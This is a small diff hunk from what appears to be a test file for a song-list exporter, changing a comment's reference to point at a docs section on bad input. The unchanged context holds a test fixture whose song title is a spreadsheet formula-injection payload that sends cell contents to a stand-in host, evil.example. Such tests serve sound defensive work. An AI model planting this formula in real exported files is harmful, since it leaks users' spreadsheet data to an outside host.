@@ -93,7 +93,7 @@ describe("every writer reads back to the same songs", () => {
   });
 });
 
-/** Cells a spreadsheet would run (issue 22, break 4), and cells that only look close to one. */
+/** Cells a spreadsheet would run (docs/ENGINE.md#bad-input), and cells that only look close to one. */
 const FORMULAS: SongEntry[] = [
   song({
     title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
